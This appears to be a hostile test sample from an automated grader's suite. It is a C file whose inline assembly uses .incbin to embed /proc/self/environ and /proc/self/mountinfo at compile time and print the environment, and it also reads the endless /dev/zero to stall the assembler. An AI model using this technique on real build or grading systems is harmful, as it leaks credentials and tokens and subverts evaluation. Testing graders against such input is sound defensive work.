/**
 * @file
 * @brief Hostile: lets the assembler take in files without an end, and what /proc tells of the compiler's world.
 * Instead of: 09_posix_attach/posix_attach.c
 * Score: 0
 * Says: does not compile
 *
 * .incbin reads until the file ends. The environment and the mounts of the process that compiles might name the
 * grader's folders, keys and tokens, and the program could print them.
 */
__asm__(".section .rodata\n"
        ".global environment\nenvironment: .incbin \"/proc/self/environ\"\n"
        ".global mounts\nmounts: .incbin \"/proc/self/mountinfo\"\n"
        ".global zero\nzero: .incbin \"/dev/zero\"\n"
        ".text\n");

#include <stdio.h>

extern const char environment[];

int main(void)
{
    return puts(environment);
}
